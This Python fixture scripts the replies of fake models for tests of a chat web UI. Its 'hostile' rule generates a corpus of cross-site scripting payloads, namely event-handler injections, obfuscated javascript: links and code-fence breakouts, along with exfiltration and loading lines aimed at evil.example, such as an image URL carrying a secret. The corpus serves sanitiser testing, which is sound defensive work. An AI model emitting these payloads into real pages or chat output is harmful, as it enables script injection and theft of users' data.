"""What the scripted models answer in the tests of the web UI."""

from luxx.providers.scripted import Call, Gate, Rule, Script, Text, Thinking, When

MARKDOWN = """# Greenhouses

A *short* answer with `code`, math $e^{i\\pi} = -1$ and a list:

- glass
- film, **cheaper**

| kind | cost |
| --- | ---: |
| glass | 120 |
| film | 40 |

```python
def area(width: float, length: float) -> float:
    return width * length  # square metres
```

$$
A = w \\cdot l
$$

```mermaid
graph LR
  A[Sun] --> B[Glass] --> C[Warmth]
```

> Warm air rises.

- [x] order film
- [ ] order glass

$5 now and 6$ later: echo $HOME:$PATH. Let $$x=1$$ be, as \\[ y^2 \\] says.

**重点：**内容，前文**（测试）**后文。
"""

RUN = "window.hacked=1"
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "video src=x",
    "details open",
    "input autofocus",
    "a href=x",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onclick",
    "onpointerenter",
    "onanimationend",
)
SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "\x01javascript:",
        "vbscript:",
        "file:///",
    ),
    *(
        "data:text/html,",
        "data:text/html;base64,",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "javascript&colon;",
    ),
    *(
        "blob:https://evil.example/",
        "livescript:",
        "view-source:",
        "//evil.example/",
        "ftp://evil.example/",
        "ws://evil.example/",
    ),
)
WRAPPINGS = ("[click]({})", "[a][b]\n\n[b]: <{}>", "<{}>", "![i]({})", "[![i]({0})]({0})", '[t](x "{}")')


def hostile_corpus() -> list[str]:
    """What a misled model may write, to run a script, to load something, or to cover the page."""
    corpus = [f"<{element} {event}={RUN}>" for element in ELEMENTS for event in EVENTS]
    corpus += [wrapping.format(f"{scheme}{RUN}") for scheme in SCHEMES for wrapping in WRAPPINGS]
    corpus += [
        f"<{tag}>{RUN}</{tag}>" for tag in ("script", "style", "noscript", "template", "math", "xmp", "title")
    ]
    corpus += [
        f"<{tag} src=https://evil.example/x></{tag}>" for tag in ("script", "iframe", "embed", "audio", "img")
    ]
    corpus += [
        f"```{mark}\n</code></pre><img src=x onerror={RUN}>\n```" for mark in ("html", '"x', "<b>", "{=html}")
    ]
    corpus += [
        f"$\\href{{javascript:{RUN}}}{{x}}$",
        f"$$\\url{{javascript:{RUN}}}$$",
        "$\\includegraphics{https://evil.example/x}$",
    ]
    corpus += [f"<p style=position:fixed>{n}</p>" for n in range(2)] + [
        "<form action=https://evil.example><button>x</button></form>"
    ]
    corpus += [
        "![pixel](https://evil.example/pixel.png)",
        "![p](http://evil.example/{secret})",
        "<base href=https://evil.example/>",
    ]
    corpus += [
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
    ]
    corpus += [
        f'```mermaid\ngraph LR\n A["<img src=x onerror={RUN}>"] --> B\n click B "javascript:{RUN}"\n```'
    ]
    return corpus + [
        f"<svg><{tag} onbegin={RUN} attributeName=x dur=1s>" for tag in ("animate", "set", "animateMotion")
    ]


RULES = [
    Rule(when=When(user="hello"), reply=[Text(text="Hello to you", pieces=3)]),
    Rule(when=When(user="markdown"), reply=[Text(text=MARKDOWN, pieces=40)]),
    Rule(
        when=When(user="weigh", has_tool_result=False),
        reply=[Call(name="knowledge_search", arguments={"query": "crate 2 weighs"})],
    ),
    Rule(when=When(user="weigh"), reply=[Text(text="Six kilograms [1].")]),
    Rule(
        when=When(user="calculate", has_tool_result=False),
        reply=[
            Thinking(text="I need the tool for this."),
            Gate(name="thought"),
            Text(text="I calculate it."),
            Call(name="python_eval", arguments={"expression": "6 * 7"}),
        ],
    ),
    Rule(when=When(user="calculate", has_tool_result=True), reply=[Text(text="The result is **42**.")]),
    Rule(
        when=When(user="hostile"), reply=[Text(text="\n\n".join([*hostile_corpus(), "The end."]), pieces=60)]
    ),
]

SCRIPT = Script(rules=RULES)
